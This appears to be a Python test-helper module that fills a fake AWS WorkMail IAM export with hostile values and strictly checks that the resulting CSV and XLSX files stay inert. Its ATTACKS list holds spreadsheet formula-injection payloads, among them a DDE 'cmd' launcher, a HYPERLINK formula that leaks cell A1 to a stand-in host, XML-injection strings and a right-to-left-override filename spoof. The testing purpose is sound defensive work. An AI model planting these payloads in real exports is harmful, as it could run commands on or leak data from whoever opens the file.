"""Estates to export, and strict readers of what is written."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
#: What a spreadsheet may take for a formula at the beginning of a cell.
LOOKS_LIKE_FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r]")
#: Names and texts that mean harm to whoever opens them.
ATTACKS = (
    '=HYPERLINK("https://example.com/?"&A1,"help")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "a;=1+1",
    "<r><t>x</t></r>",
    "<r>not closed</r>",
    "</t></is></c><c><f>1+1</f></c>",
    "bell\x07and_x0041_",
    'two\nlines\r\nand a "quote", with comma',
    "evil\u202egpj.exe\u2066",
    "zero\u200bwidth\u2028line",
    "lone \ud800 half",
    "https://example.com/",
    "mailto:jane@example.com",
    "\ufffe\uffff",
    "",
)


def hostile_folder(folder: Path) -> Path:
    """Write an estate whose names, tags, Sids and descriptions are attacks, and return its folder."""
    users = []
    for at, attack in enumerate(ATTACKS):
        statement = {
            "Sid": attack,
            "Effect": "Allow",
            "Action": "workmail:*",
            "Resource": "*",
            "Condition": {"StringEquals": {"aws:UserAgent": [attack, "other"]}},
        }
        users.append(
            {
                "Path": "/",
                "UserName": attack or "empty",
                "UserId": f"AIDAEXAMPLE{at}",
                "Arn": f"arn:aws:iam::111122223333:user/{attack or 'empty'}{at}",
                "GroupList": [],
                "AttachedManagedPolicies": [],
                "UserPolicyList": [
                    {
                        "PolicyName": attack or "policy",
                        "PolicyDocument": {"Version": "2012-10-17", "Statement": [statement]},
                    }
                ],
                "Tags": [{"Key": attack or "key", "Value": attack}],
            }
        )
    details = {"UserDetailList": users, "GroupDetailList": [], "RoleDetailList": [], "Policies": []}
    folder.mkdir(exist_ok=True)
    (folder / "=details.json").write_text(json.dumps(details), "utf-8")
    organization = {
        "OrganizationId": "m-0123456789abcdef0123456789abcdef",
        "Alias": "=1+1",
        "State": "Active",
        "ARN": "arn:aws:workmail:us-east-1:111122223333:organization/m-0123456789abcdef0123456789abcdef",
    }
    (folder / "organization.json").write_text(json.dumps(organization), "utf-8")
    return folder


def read_csv(data: bytes) -> list[list[str]]:
    """Return the rows of CSV as RFC 4180 has it, and fail where it is anything else."""
    text = data.decode("utf-8")
    assert text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def without_apostrophes(text: str) -> str:
    """Return what a cell of CSV held before it was defused."""
    first = re.sub(r"\A'(?=\s*[=+\-@＝＋－＠]|[\t\r])", "", text)
    return re.sub(r"(?<=;)'(?=\s*[=+\-@＝＋－＠])", "", first)


def read_zip(data: bytes) -> dict[str, bytes]:
    """Return the members of an archive, in order, with their checksums tried."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        assert len(names) == len(set(names))
        return {name: archive.read(name) for name in names}


def read_sheets(data: bytes) -> dict[str, list[list[Any]]]:
    """Return the cells of a workbook by sheet, and fail where one is more than text, number or truth.

    Reads the XML itself, so that nothing that a library would forgive goes unseen.
    """
    members = read_zip(data)
    assert not [name for name in members if "external" in name.lower() or "vba" in name.lower()]
    for name, content in members.items():
        if name.startswith("xl/worksheets/_rels"):
            assert b"hyperlink" not in content.lower()
    book = ElementTree.fromstring(members["xl/workbook.xml"])  # noqa: S314 - written by the test
    names = [sheet.attrib["name"] for sheet in book.iter(f"{MAIN}sheet")]
    return {
        name: _cells(ElementTree.fromstring(members[f"xl/worksheets/sheet{number}.xml"]))  # noqa: S314
        for number, name in enumerate(names, 1)
    }


def _cells(sheet: ElementTree.Element) -> list[list[Any]]:
    forbidden = {f"{MAIN}{tag}" for tag in ("f", "hyperlink", "hyperlinks", "oleObject", "legacyDrawing")}
    assert not [element.tag for element in sheet.iter() if element.tag in forbidden]
    rows: list[list[Any]] = []
    for row in sheet.iter(f"{MAIN}row"):
        # A row without any value is not written, and those after it keep their numbers.
        rows += [[]] * (int(row.attrib["r"]) - 1 - len(rows))
        cells: list[Any] = []
        for cell in row.iter(f"{MAIN}c"):
            column = 0
            for letter in re.match("[A-Z]+", cell.attrib["r"]).group():  # type: ignore[union-attr]
                column = column * 26 + ord(letter) - ord("A") + 1
            cells += [None] * (column - 1 - len(cells))
            kind = cell.attrib.get("t", "n")
            assert kind in ("n", "b", "inlineStr")
            if kind == "inlineStr":
                text = "".join(element.text or "" for element in cell.iter(f"{MAIN}t"))
                cells.append(re.sub("_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), text))
            else:
                value = cell.find(f"{MAIN}v").text  # type: ignore[union-attr]
                cells.append(value == "1" if kind == "b" else int(value))
        rows.append(cells)
    return rows
